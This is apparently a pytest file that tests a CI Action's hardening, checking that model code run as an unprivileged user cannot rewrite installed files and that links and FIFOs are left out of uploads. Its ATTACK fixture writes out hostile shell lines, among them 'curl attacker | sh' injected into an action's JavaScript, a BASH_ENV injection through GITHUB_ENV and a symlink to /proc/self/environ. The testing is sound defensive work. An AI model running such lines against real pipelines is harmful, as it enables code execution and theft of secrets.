"""Model code in a root job container runs as an unprivileged user (bot/action/harden.py), tried as an
attacker: a shell program (every user can run /bin/sh, unlike this machine's Python, installed under
root's home) started the way the Action starts a model-code stage, that tries to rewrite the installed
bot, the runner's copy of an action under `_actions` and the step's GITHUB_ENV, and leaves links to
/proc/self/environ in the run directory. The Action's own check job is tested end to end in
tests/test_action_token_isolation.py."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from bot import proc
from bot.action import harden
from bot.errors import InfraError

root_only = pytest.mark.skipif(os.geteuid() != 0, reason="a bare runner (not root) runs model code as its own user")

ATTACK = r"""
echo "BASH_ENV=$OUT/evil.sh" >> "$GITHUB_ENV"
echo 'curl attacker | sh' >> "$ACTIONS/upload-artifact/dist/index.js"
echo 'import os; os.system("id")' >> "$SITE/bot/render.py"
echo checked > "$OUT/results.json"
ln -s /proc/self/environ "$OUT/environ.txt"
mkdir -p "$OUT/checks" && mkfifo "$OUT/checks/fifo.log"
id -u
"""


def _job(tmp_path: Path) -> dict[str, Path]:
    """What a check job's later steps use, owned by root as in a job container: the installed bot,
    the runner's `_actions` and the step's file command; and the run directory."""
    paths = {"site": tmp_path / "site" / "bot" / "render.py",
             "actions": tmp_path / "_actions" / "upload-artifact" / "dist" / "index.js",
             "env": tmp_path / "_runner_file_commands" / "set_env_0001"}
    for p in paths.values():
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("# as installed\n")
    for d in [tmp_path, *{q for p in paths.values() for q in p.parents if tmp_path in q.parents}]:
        d.chmod(0o755)   # searchable by everyone, writable by root only, as an install is
    paths["out"] = tmp_path / "out"
    return paths


@pytest.fixture
def job_dir():
    """A job's directory every user can reach, as a runner's work directory is (pytest's own
    temporary directories are root's alone)."""
    import shutil
    import tempfile

    d = Path(tempfile.mkdtemp(prefix="minify-job-"))
    d.chmod(0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


@root_only
def test_model_code_as_the_unprivileged_user_cannot_touch_what_the_later_steps_run(job_dir):
    tmp_path = job_dir
    job = _job(tmp_path)
    user = harden.model_user({}, tmp_path)
    assert user is not None and user.uid != 0
    env = {"PATH": os.environ["PATH"], "OUT": str(job["out"]), "GITHUB_ENV": str(job["env"]),
           "ACTIONS": str(tmp_path / "_actions"), "SITE": str(tmp_path / "site"), **harden.hand_over(job["out"], user)}
    res = proc.run(["/bin/sh", "-c", ATTACK], cwd=str(job["out"]), env=env, timeout=60, capture=4096,
                   user=(user.uid, user.gid))
    assert res.output.strip().splitlines()[-1] == str(user.uid)   # it ran, as that user
    for what in ("site", "actions", "env"):
        assert job[what].read_text() == "# as installed\n", f"model code rewrote {what}"
    assert (job["out"] / "results.json").read_text() == "checked\n"   # the run directory is its to write

    removed = harden.reclaim(job["out"])
    assert removed == ["checks/fifo.log", "environ.txt"]
    for p in [job["out"], *job["out"].rglob("*")]:
        st = p.lstat()
        assert (st.st_uid, stat.S_ISLNK(st.st_mode)) == (0, False)   # root's again, and no link left


@root_only
def test_the_model_user_is_never_root_nor_the_workspaces_owner(tmp_path):
    """The runner's user owns the workspace, `_actions` and the file commands: model code running as
    that user could rewrite them all, so it is never chosen; with no other user the step stops."""
    import pwd

    nobody = pwd.getpwnam("nobody")
    ws = tmp_path / "ws"
    ws.mkdir()
    os.chown(ws, nobody.pw_uid, nobody.pw_gid)
    with pytest.raises(InfraError, match="no unprivileged user"):
        harden.model_user({harden.MODEL_USER_ENV: "nobody"}, ws)
    with pytest.raises(InfraError):
        harden.model_user({harden.MODEL_USER_ENV: "root"}, ws)
    assert harden.model_user({harden.MODEL_USER_ENV: "root"}, tmp_path).uid == nobody.pw_uid


def test_the_upload_copy_holds_only_regular_files_of_the_layout(tmp_path):
    """upload-artifact follows links: the copy it is given has none, no FIFO, nothing outside the
    run-directory layout, and a link to a directory is not walked into."""
    out = tmp_path / "out"
    (out / "checks").mkdir(parents=True)
    (out / "failures" / "a-check" / "inputs").mkdir(parents=True)
    (out / "results.json").write_text("{}")
    (out / "checks" / "a-check.log").write_text("log")
    (out / "failures" / "a-check" / "repro.py").write_text("repro")
    (out / "failures" / "a-check" / "inputs" / "0").write_bytes(b"\0" * 8)
    (out / "environ.txt").symlink_to("/proc/self/environ")
    (out / "checks" / "b.log").symlink_to("/proc/self/environ")
    (out / "failures" / "a-check" / "etc").symlink_to("/etc")
    os.mkfifo(out / "checks" / "fifo.log")
    (out / "planted.sh").write_text("not of the layout")
    copy, left_out = harden.upload_copy(out, tmp_path / "temp")
    got = sorted(p.relative_to(copy).as_posix() for p in copy.rglob("*") if not p.is_dir())
    assert got == ["checks/a-check.log", "failures/a-check/inputs/0", "failures/a-check/repro.py", "results.json"]
    assert not any(p.is_symlink() for p in copy.rglob("*"))
    assert left_out == ["checks/b.log", "checks/fifo.log", "environ.txt", "failures/a-check/etc", "planted.sh"]


def test_the_action_process_has_imported_what_it_runs_before_any_stage():
    """Everything of the bot that imports without torch, and the templates, are in memory after
    ``preload``: nothing is read from the installed bot after model code ran."""
    import sys

    names = harden.preload()
    for needed in ("bot.render", "bot.action.summary", "bot.action.sticky", "bot.report.lifecycle", "bot.known",
                   "bot.knownrepro", "bot.merge", "bot.tracker.github", "bot.signing", "jinja2"):
        assert needed in names and needed in sys.modules
